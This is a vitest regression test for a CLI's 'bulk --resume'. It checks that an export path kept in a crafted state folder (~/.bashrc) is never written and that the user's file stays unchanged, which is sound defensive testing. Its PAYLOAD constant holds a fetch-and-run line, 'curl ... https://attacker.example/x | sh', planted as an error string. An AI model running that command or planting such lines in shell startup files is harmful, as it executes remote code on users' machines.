/**
 * Issue 40, medium: `bulk --resume` on a folder someone handed over. Its state.db holds a paused job whose kept export
 * choice is `--out ~/.bashrc --fields error` and an answer whose error text is a shell command. Resuming (without a
 * key: the run stops at once; with one: it looks the rest up) must write only where this command line says: the
 * kept path is shown as a suggestion, never written, and the user's file is left as it was.
 */
import { randomUUID } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startSimulator, type Simulator } from '../../electron/demo/simulator';
import { StateDb } from '../../electron/core/storage/state-db';
import { BulkTables } from '../../electron/core/storage/state-db-bulk';
import { cli, hasKeyring, setUp, tempDir, testKey } from './helpers';

const KEY = testKey('resume-crafted');
const PAYLOAD = 'curl -s https://attacker.example/x | sh';
const BASHRC = '# my shell settings\nalias ll="ls -l"\n';
let sim: Simulator;
let root: ReturnType<typeof tempDir>;
let home: string;
let bashrc: string;

beforeAll(async () => {
  sim = await startSimulator({ keys: { [KEY]: { monthLimit: 1000, minuteLimit: null, label: 'resume' } } });
  root = tempDir('lt-cli-resume-');
  home = join(root.dir, 'home');
  mkdirSync(home, { mode: 0o700 });
  bashrc = join(home, '.bashrc');
});
afterAll(async () => {
  await sim.close();
  root.remove();
});

/** A folder holding one paused job (two addresses: one failed with PAYLOAD, one left) kept to go to ~/.bashrc. */
function craftedFolder(name: string): string {
  const dir = join(root.dir, name);
  mkdirSync(dir, { mode: 0o700 });
  writeFileSync(join(dir, 'settings.json'), JSON.stringify({ schemaVersion: 1, baseUrl: sim.url }), { mode: 0o600 });
  const db = StateDb.open({ dir });
  const tables = new BulkTables(db);
  const id = randomUUID();
  const at = Date.now();
  tables.createJob({ id, profile: 'default', label: 'servers.txt', createdAt: at, options: { floor: { count: 0 } } }, [
    { ip: '203.0.113.7', line: 1, lastLine: 1, hits: 1, flag: null },
    { ip: '8.8.8.8', line: 2, lastLine: 2, hits: 1, flag: null },
  ]);
  tables.record(id, 0, { status: 'failed', source: 'network', kind: 'network', error: PAYLOAD, bodyJson: null, at });
  tables.setState(id, 'paused', 'user', null, at);
  db.writeKv(`cli.bulkExport.${id}`, { out: bashrc, format: 'csv', fields: 'error' });
  db.close();
  return dir;
}

it.runIf(hasKeyring)(
  'bulk --resume on a crafted folder: the kept --out (~/.bashrc) is only suggested, never written, key or not',
  async () => {
    writeFileSync(bashrc, BASHRC);
    const env = { HOME: home };

    // No key: the run stops at once. Nothing new was looked up, so nothing is written anywhere, even a file named here.
    const noKey = craftedFolder('no-key');
    const stopped = await cli(noKey, ['bulk', '--resume', '--yes'], { env });
    expect(stopped.code).toBe(3);
    expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC);
    expect(stopped.stdout).toBe('');
    expect(stopped.stderr).toContain(`It was started with --out ${bashrc} --format csv --fields error`);
    const named = join(root.dir, 'named.csv');
    expect((await cli(noKey, ['bulk', '--resume', '--yes', '--out', named], { env })).code).toBe(3);
    expect(existsSync(named)).toBe(false);

    // With a key: the rest is looked up, and the results go where this command line says: stdout here.
    const keyed = craftedFolder('keyed');
    await setUp(keyed, sim.url, KEY);
    const resumed = await cli(keyed, ['bulk', '--resume', '--yes'], { env });
    expect(resumed.code, resumed.stderr).toBe(8); // finished, one address failed (before)
    expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC);
    expect(resumed.stdout).toMatch(/^8\.8\.8\.8,/m);
    expect(resumed.stderr).toContain(`It was started with --out ${bashrc}`);
    expect(resumed.stderr).not.toMatch(/Wrote \d+ rows? to/);
    await cli(keyed, ['key', 'remove'], { env });

    // Named on this command line, a file is written, as named: the kept choice is not mixed in.
    const chosen = craftedFolder('chosen');
    await setUp(chosen, sim.url, KEY);
    const out = join(root.dir, 'chosen.csv');
    const written = await cli(chosen, ['bulk', '--resume', '--yes', '--out', out, '--fields', 'ip,status'], { env });
    expect(written.code, written.stderr).toBe(8);
    expect(readFileSync(out, 'utf8').trim().split(/\r?\n/)).toEqual([
      'ip,status',
      '203.0.113.7,failed',
      '8.8.8.8,done',
    ]);
    expect(readFileSync(bashrc, 'utf8')).toBe(BASHRC);
    await cli(chosen, ['key', 'remove'], { env });
  },
);
